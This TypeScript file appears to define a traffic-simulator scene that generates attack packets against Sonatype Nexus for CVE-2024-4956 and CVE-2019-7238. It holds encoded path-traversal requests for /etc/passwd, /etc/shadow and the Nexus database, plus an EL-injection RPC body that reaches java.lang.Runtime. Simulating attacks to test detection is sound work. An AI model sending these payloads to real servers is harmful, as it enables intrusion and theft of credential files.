import {SECOND} from '../packets/packet.ts';
import {attacker} from './hosts.ts';
import type {Scene} from './scene.ts';
import {webAttack} from './web-attack.ts';

const SLASH = '%2F';
const UP = `..${SLASH}`;
const fileOf = (path: string): string => `/${SLASH.repeat(7)}${UP.repeat(7)}${encodeURIComponent(path)}`;

/** A component search with an EL expression in its filter, which the server evaluates. */
const EXPRESSION = JSON.stringify({
  action: 'coreui_Component',
  method: 'previewAssets',
  data: [{filter: [{property: 'expression', value: "''.class.forName('java.lang.Runtime')"}]}],
  type: 'rpc',
  tid: 8,
});

export const nexusTraversal = {
  name: 'nexus-traversal',
  describe: 'path traversal and code execution in Sonatype Nexus (CVE-2024-4956, CVE-2019-7238)',
  minute: 75,
  packets: random => [
    ...webAttack(
      {
        from: attacker(100),
        port: 8081,
        requests: [
          {target: fileOf('etc/passwd')},
          {target: fileOf('etc/shadow')},
          {target: fileOf('nexus-data/db')},
        ],
      },
      random,
    ),
    ...webAttack(
      {
        from: attacker(101),
        port: 8081,
        at: 30 * SECOND,
        requests: [
          {
            method: 'POST',
            target: '/service/extdirect',
            headers: {'Content-Type': 'application/json'},
            body: EXPRESSION,
          },
        ],
      },
      random,
    ),
  ],
} as const satisfies Scene;
